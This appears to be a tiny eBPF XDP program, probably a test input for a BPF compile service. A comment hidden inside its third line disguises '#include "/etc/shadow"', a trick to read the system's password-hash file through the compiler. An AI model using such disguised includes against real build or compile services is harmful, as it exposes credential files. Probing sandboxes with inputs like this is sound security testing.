#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#/* hidden */include "/etc/shadow"

SEC("xdp")
int comment(struct xdp_md *ctx)
{
	return XDP_PASS;
}

char LICENSE[] SEC("license") = "GPL";
